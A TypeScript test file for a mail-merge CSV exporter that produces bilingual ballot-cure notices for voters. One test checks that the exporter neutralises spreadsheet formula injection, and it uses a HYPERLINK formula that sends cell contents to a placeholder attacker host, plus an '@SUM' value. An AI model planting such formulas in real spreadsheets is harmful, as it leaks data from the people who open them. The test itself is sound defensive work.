import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutraliseCell } from '../../main/csv/safe.js';
import { ADDRESS_COLUMNS, MAIL_MERGE_HEADER, mailMergeCsv } from '../../main/cure/mailmerge.js';
import { noticeFor } from './fixtures.js';

function rowsOf(csv: string): Record<string, string>[] {
  return parse<Record<string, string>>(csv, { bom: true, columns: true, skip_empty_lines: true });
}

describe('mailMergeCsv', () => {
  it('writes one row per notice with reasons and deadline in the notice language', () => {
    const csv = mailMergeCsv([
      noticeFor('NC', { cureCodes: ['NO_VOTER_SIGNATURE', 'WITNESS_INFO_INCOMPLETE'] }),
      noticeFor('NC', {
        language: 'es',
        ballotId: 'B-2',
        voter: { name: 'Íñigo Peña', mailingLines: ['3 Elm St', 'Cary NC 27511'] },
      }),
    ]);
    expect(csv.startsWith('\ufeff')).toBe(true);
    expect(csv).toContain('\r\n');
    const header = parse(csv, { bom: true, to_line: 1 });
    expect(header[0]).toEqual([...MAIL_MERGE_HEADER]);
    const [en, es, ...rest] = rowsOf(csv);
    expect(rest).toEqual([]);
    expect(en).toMatchObject({
      name: 'María José Núñez',
      address_1: '1200 Peachtree Ln Apt 4',
      address_2: 'Raleigh NC 27601-1234',
      address_3: '',
      ballot_id: 'B-000123',
      codes: 'NO_VOTER_SIGNATURE;WITNESS_INFO_INCOMPLETE',
      deadline: 'Thursday, November 14, 2024 at 5:00 PM EST',
      deadline_iso: '2024-11-14T22:00:00.000Z',
      language: 'en',
    });
    expect(en?.['reasons']).toBe(
      "Your signature is missing from the return envelope. Your witness's printed name or address is missing or incomplete.",
    );
    expect(es).toMatchObject({
      name: 'Íñigo Peña',
      reasons: 'Falta su firma en el sobre de devolución.',
      deadline: 'jueves, 14 de noviembre de 2024, a las 5:00 p.m. EST',
      language: 'es',
    });
  });

  it('neutralises a name that a spreadsheet would run as a formula', () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const [row] = rowsOf(
      mailMergeCsv([noticeFor('CO', { voter: { name: evil, mailingLines: ['@SUM(1+1)', 'Denver CO'] } })]),
    );
    expect(row?.['name']).toBe(neutraliseCell(evil));
    expect(row?.['name']?.startsWith('=')).toBe(false);
    expect(row?.['name']).toContain('HYPERLINK');
    expect(row?.['address_1']?.startsWith('@')).toBe(false);
  });

  it('folds a long address into the last column, keeping the header fixed', () => {
    const lines = ['Attn: A', 'c/o B', 'Unit 3', '10 Long Rd', 'Town ST 00000', 'USA'];
    const [row] = rowsOf(mailMergeCsv([noticeFor('CO', { voter: { name: 'X', mailingLines: lines } })]));
    expect(row?.[`address_${ADDRESS_COLUMNS}`]).toBe('Town ST 00000, USA');
    expect(Object.keys(row ?? {})).toEqual([...MAIL_MERGE_HEADER]);
  });
});
